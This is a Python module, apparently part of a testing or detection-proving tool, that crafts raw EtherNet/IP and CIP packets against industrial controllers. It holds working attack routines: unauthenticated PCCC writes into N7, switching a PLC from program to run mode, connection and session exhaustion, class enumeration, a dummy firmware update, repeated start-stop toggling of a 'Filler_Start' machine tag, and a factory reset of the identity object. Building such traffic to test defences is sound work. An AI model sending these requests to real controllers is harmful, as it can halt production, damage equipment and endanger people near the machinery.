"""EtherNet/IP and CIP: PCCC, sessions and connections used up, classes walked, firmware begun, tags toggled."""

from __future__ import annotations

import struct
import time
from typing import TYPE_CHECKING, Final

from proving.clients.talk import Talk

if TYPE_CHECKING:
    from collections.abc import Callable

_PORT: Final = 44818
_REGISTER: Final = bytes.fromhex("65000400") + bytes(20) + bytes.fromhex("01000000")
_PCCC: Final = bytes.fromhex("4b0220672401070100aabbccdd")
"""Execute PCCC at its object, and who asks: a vendor's number and a serial number."""


def _send_rr(session: bytes, cip: bytes) -> bytes:
    data = struct.pack("<IHHHHHH", 0, 10, 2, 0, 0, 0xB2, len(cip)) + cip
    return struct.pack("<HH", 0x6F, len(data)) + session + bytes(4) + b"interlop" + bytes(4) + data


def _requests(to: str, requests: list[bytes], pause_s: float = 0.1) -> None:
    with Talk(to, _PORT) as talk:
        session = talk.say(_REGISTER)[4:8].ljust(4, b"\0")
        for cip in requests:
            talk.say(_send_rr(session, cip), pause_s)


def _path(klass: int, instance: int, attribute: int | None = None) -> bytes:
    path = bytes((0x20, klass, 0x24, instance)) + (b"" if attribute is None else bytes((0x30, attribute)))
    return bytes((len(path) // 2,)) + path


def _tag(name: bytes) -> bytes:
    path = bytes((0x91, len(name))) + name + b"\0" * (len(name) % 2)
    return bytes((len(path) // 2,)) + path


def pccc_written(to: str) -> None:
    """Protected typed logical write with three address fields, into N7, over and over."""
    rows = [
        _PCCC + struct.pack("<BBHBBBBBBH", 0x0F, 0, number, 0xAA, 2, 7, 0x89, number, 0, 0x1234)
        for number in range(8)
    ]
    _requests(to, rows, 0.5)


def pccc_program(to: str) -> None:
    """Diagnostic status, then the mode changed to program, then to run."""
    asked = [struct.pack("<BBHB", 6, 0, 1, 3), struct.pack("<BBHBB", 15, 0, 2, 0x80, 1)]
    asked.append(struct.pack("<BBHBB", 15, 0, 3, 0x80, 6))
    _requests(to, [_PCCC + one for one in asked], 1.0)


def connections_opened(to: str) -> None:
    """Forward Open over and over, never closed."""
    rows = []
    for number in range(60):
        head = struct.pack("<BBIIHHI", 10, 14, number, number + 1, number, 0x4D, 0xDEAD)
        rates = struct.pack("<B3xIHIHB", 3, 100_000, 0x43F4, 100_000, 0x43F4, 0xA3)
        rows.append(b"\x54" + _path(6, 1) + head + rates + bytes((2, 0x20, 2, 0x24, 1)))
    _requests(to, rows, 0.02)


def sessions_registered(to: str) -> None:
    """Sessions registered one after another on connections that stay open."""
    talks = [Talk(to, _PORT, 0.2) for _ in range(60)]
    for talk in talks:
        talk.say(_REGISTER, 0.01)
    time.sleep(1.0)
    for talk in talks:
        talk.__exit__(None, None, None)


def classes_walked(to: str) -> None:
    """Get Attributes All of the first instance of one class after another."""
    _requests(to, [b"\x01" + _path(klass, 1) for klass in range(1, 100)], 0.03)


def firmware_begun(to: str) -> None:
    """An update of firmware begun at the object for it, and parts of it handed over."""
    rows = [b"\x4b" + _path(0xA1, 1) + struct.pack("<I", 1_834_774)]
    rows += [b"\x4d" + _path(0xA1, 1) + struct.pack("<HH", number, 400) + bytes(400) for number in range(6)]
    _requests(to, rows, 0.3)


def tag_toggled(to: str) -> None:
    """A machine started and stopped by its tag, over and over."""
    rows = [b"\x4d" + _tag(b"Filler_Start") + b"\xc1\0\x01\0" + bytes((n % 2,)) for n in range(20)]
    _requests(to, rows, 0.3)


def identity_reset(to: str) -> None:
    """Reset to what the maker delivered."""
    _requests(to, [b"\x05" + _path(1, 1) + b"\x01"], 0.5)


def list_services(to: str) -> None:
    """List Services, List Identity, List Interfaces, and the port, network and identity objects read."""
    with Talk(to, _PORT) as talk:
        for command in (4, 0x63, 0x64):
            talk.say(struct.pack("<HH", command, 0) + bytes(20))
    _requests(to, [b"\x01" + _path(klass, 1) for klass in (1, 0xF5, 0xF6, 0xF4)])


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "cip-pccc-written": pccc_written,
    "cip-pccc-program": pccc_program,
    "cip-connections-opened": connections_opened,
    "cip-sessions-registered": sessions_registered,
    "cip-classes-walked": classes_walked,
    "cip-firmware-begun": firmware_begun,
    "cip-tag-toggled": tag_toggled,
    "cip-identity-reset": identity_reset,
    "cip-list-services": list_services,
}
